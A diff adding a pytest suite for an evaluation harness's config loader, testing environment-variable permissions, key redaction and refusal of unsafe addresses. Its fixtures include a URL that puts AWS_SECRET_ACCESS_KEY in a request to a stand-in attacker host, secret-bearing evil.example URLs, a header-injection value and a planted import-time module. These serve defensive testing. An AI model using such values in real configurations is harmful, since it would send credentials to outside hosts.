@@ -1,0 +1,198 @@
+"""Environment variables and keys: a config uses only what its user allows, and keys reach no message."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from command_line import harness
+from loopback import completion, serving
+
+from harness import config, pipeline
+from harness.errors import ConfigError, hide_keys
+from harness.servers.connection import Address
+from harness.servers.server import announce
+
+KEY = "sk-proj-aBcDeFgH1234567890"
+
+
+def write_config(folder: Path, model: str, more: str = "") -> Path:
+    (folder / "rows.jsonl").write_text('{"id": "a", "text": "The council met. It voted."}\n', "utf-8")
+    prompts = "" if "prompts:" in model + more else "prompts: {plain: '{{ article.text }}'}\n"
+    path = folder / "run.yaml"
+    path.write_text(
+        f"articles: rows.jsonl\nmodels:\n  m: {model}\n{prompts}verifier: lexical\nscorers: [length]\n{more}", "utf-8"
+    )
+    return path
+
+
+def served(**options: str) -> str:
+    given = {"base_url": "http://127.0.0.1:9/v1", **options}
+    return "{kind: openai_api, model: m, " + ", ".join(f"{key}: {value}" for key, value in given.items()) + "}"
+
+
+@pytest.mark.parametrize(
+    ("model", "name"),
+    [
+        (served(base_url="'http://evil.example/${AWS_SECRET_ACCESS_KEY}/v1'"), "AWS_SECRET_ACCESS_KEY"),
+        (served(extra="{metadata: {x: ['${DATABASE_URL:-none}']}}"), "DATABASE_URL"),
+        ("{kind: 'somebody:AsksServer', model: '${GITHUB_TOKEN}'}", "GITHUB_TOKEN"),
+        (served() + "\nprompts: {plain: '{{ article.text }} ${MONGODB_URI}'}", "MONGODB_URI"),
+    ],
+)
+def test_variable_is_used_only_if_the_user_lists_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, model: str, name: str
+) -> None:
+    monkeypatch.setenv(name, "the-value")
+    monkeypatch.delenv("HARNESS_ALLOW_ENV", raising=False)
+    with pytest.raises(ConfigError) as caught:
+        config.load(write_config(tmp_path, model), imports=False)
+    assert f"HARNESS_ALLOW_ENV={name}" in str(caught.value)
+    assert "the-value" not in str(caught.value)
+    monkeypatch.setenv("HARNESS_ALLOW_ENV", f"OTHER, {name}")
+    config.load(write_config(tmp_path, model), imports=False)
+
+
+def test_harness_variables_and_keys_ending_in_env_are_always_filled(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HARNESS_MODEL", "wise")
+    monkeypatch.setenv("WHERE", "MISTRAL_API_KEY")
+    monkeypatch.setenv("MISTRAL_API_KEY", "a-key")
+    loaded = config.load(
+        write_config(tmp_path, served(model="'${HARNESS_MODEL}'", api_key_env="'${WHERE}'").replace("model: m, ", ""))
+    )
+    assert loaded.models["m"].model_dump(include={"model", "api_key_env"}) == {
+        "model": "wise",
+        "api_key_env": "MISTRAL_API_KEY",
+    }
+
+
+def test_default_of_an_unset_variable_needs_no_permission(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("TOKENS", raising=False)
+    loaded = config.load(write_config(tmp_path, served(max_new_tokens="'${TOKENS:-80}'")))
+    assert loaded.models["m"].model_dump()["max_new_tokens"] == 80
+
+
+def test_run_can_be_scored_without_the_variables_of_its_prompts(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HARNESS_HOME", str(tmp_path / "home"))
+    monkeypatch.setenv("GITHUB_TOKEN", "x")
+    monkeypatch.setenv("HARNESS_ALLOW_ENV", "GITHUB_TOKEN")
+    more = f"output: {tmp_path}/run\nprompts: {{p: '{{{{ article.text }}}} ${{GITHUB_TOKEN}}'}}\n"
+    pipeline.run(config.load(write_config(tmp_path, "{kind: lead}", more)))
+    monkeypatch.delenv("HARNESS_ALLOW_ENV")
+    assert pipeline.score(tmp_path / "run").results.manifest.status == "complete"
+
+
+@pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "SSH_PRIVATE_KEY", "GITHUB_TOKEN", "HOME", "DATABASE_URL"])
+def test_api_key_env_accepts_only_names_of_server_keys(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
+) -> None:
+    monkeypatch.setenv(name, "the-value")
+    path = write_config(tmp_path, served(api_key_env=name))
+    with pytest.raises(ConfigError, match=f"HARNESS_ALLOW_ENV={name}"):
+        config.load(path)
+    monkeypatch.setenv("HARNESS_ALLOW_ENV", name)
+    config.load(path)
+
+
+@pytest.mark.parametrize("name", ["MISTRAL_API_KEY", "OTHER_KEY", "HF_TOKEN", "REPLICATE_API_TOKEN", "HARNESS_JUDGE"])
+def test_usual_names_of_keys_are_accepted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
+    monkeypatch.setenv(name, "the-value")
+    config.load(write_config(tmp_path, served(api_key_env=name)))
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://me:t0psecret@evil.example/v1",
+        "http://evil.example:t0psecret/v1",
+        "http://evil.example/v1#t0psecret",
+        "http://evil.example/sk-t0psecret/v1",
+        "http://evil.example/v1?key=t0psecret",
+        "http://[evil/t0psecret",
+    ],
+)
+@pytest.mark.parametrize("place", ["file", "--set"])
+def test_key_in_an_address_is_refused_and_not_repeated(tmp_path: Path, url: str, place: str) -> None:
+    path = write_config(tmp_path, served(base_url=f"'{url}'") if place == "file" else served())
+    result = harness("validate", path, *(("--set", f"models.m.base_url={url}") if place == "--set" else ()))
+    assert result.exit_code == 2
+    assert "t0psecret" not in result.output
+    assert "base_url" in result.output
+
+
+@pytest.mark.parametrize("url", ['"http://a.example/v1\\nX-Key: 1"', '"http://a.example/ v1"', '"http://a\\u0000/v1"'])
+def test_white_space_and_control_characters_in_an_address_are_refused(tmp_path: Path, url: str) -> None:
+    with pytest.raises(ConfigError, match="base_url"):
+        config.load(write_config(tmp_path, served(base_url=url)))
+
+
+@pytest.mark.parametrize("override", [KEY, f"models.m.max_new_tokens={KEY}", f"models.m.kind={KEY}", f"limit={KEY}",
+                                      f"models.m.extra.x={KEY}", f"{KEY}=1"])  # fmt: skip  # one list
+def test_key_on_the_command_line_is_refused_and_not_repeated(tmp_path: Path, override: str) -> None:
+    result = harness("validate", write_config(tmp_path, served()), "--set", override)
+    assert result.exit_code == 2
+    assert KEY not in result.output
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH",
+        "sk-" + "0123456789abcdef" * 2,
+        "sk-ant-api03-" + "aB_c-" * 8,
+        "sk-or-v1-" + "0123456789abcdef" * 4,
+        "sk-aB_cD-eF_gH-iJ_kL3mNo",
+        "gsk_" + "aBcDeF12" * 6,
+        KEY,
+    ],
+)
+def test_key_of_each_provider_is_hidden(key: str) -> None:
+    assert key[:16] not in hide_keys(f"token {key} is wrong")
+    assert key[-4:] not in hide_keys(f"token={key}")
+    assert key not in str(ConfigError(f"cannot read {key}"))
+
+
+@pytest.mark.parametrize("name", ["hf_cnn_dailymail.yaml", "sk-learn-summaries-2024", "gsk_news_articles_2024"])
+def test_name_that_begins_like_a_key_is_shown_and_accepted(tmp_path: Path, name: str) -> None:
+    assert hide_keys(f"{name}: there is no such file") == f"{name}: there is no such file"
+    config.load(write_config(tmp_path, served(served_as=name)))
+
+
+def test_validate_imports_no_foreign_module(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    (tmp_path / "evil_on_import.py").write_text("import pathlib\npathlib.Path(__file__).with_name('ran').touch()\n")
+    monkeypatch.syspath_prepend(str(tmp_path))
+    path = write_config(tmp_path, "{kind: 'evil_on_import:Model', any: 1}")
+    path.write_text(path.read_text().replace("[length]", "[length, 'evil_on_import:Scorer']"), "utf-8")
+    result = harness("validate", path)
+    assert result.exit_code == 0
+    assert "evil_on_import:Model" in result.stderr
+    assert not (tmp_path / "ran").exists()
+
+
+def test_output_outside_the_working_folder_is_a_warning(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    (tmp_path / "here").mkdir()
+    monkeypatch.chdir(tmp_path / "here")
+    path = write_config(tmp_path, "{kind: lead}", "output: elsewhere\n")
+    assert "warning: output:" in harness("validate", path).stderr
+    assert "warning: output:" not in harness("validate", path, "-o", tmp_path / "asked-for").stderr
+    path.write_text(path.read_text().replace("elsewhere", "here/results"), "utf-8")
+    assert "warning: output:" not in harness("validate", path).stderr
+
+
+def test_hosts_are_announced_once_before_the_first_request(capsys: pytest.CaptureFixture[str]) -> None:
+    openai = "https://api.openai.com/v1"
+    for url in ("http://judge.example:8000/v1", "http://judge.example:8000/v1", "http://127.0.0.1:1/v1", openai):
+        announce(Address(url, "MY_KEY", "value", 0, 1.0, 1.0))
+    told = "harness: asking judge.example (http://judge.example:8000/v1), with the key in MY_KEY\n"
+    assert capsys.readouterr().err == told
+
+
+def test_run_announces_the_host(tmp_path: Path) -> None:
+    with serving(lambda *_: completion("Peace.", model="m")) as server:
+        url = server.url.replace("127.0.0.1", "localhost.localdomain")
+        result = harness("run", write_config(tmp_path, served(base_url=f"'{url}'", retries="0"), "output: out\n"), "-q")
+    assert f"harness: asking localhost.localdomain ({url})" in result.output
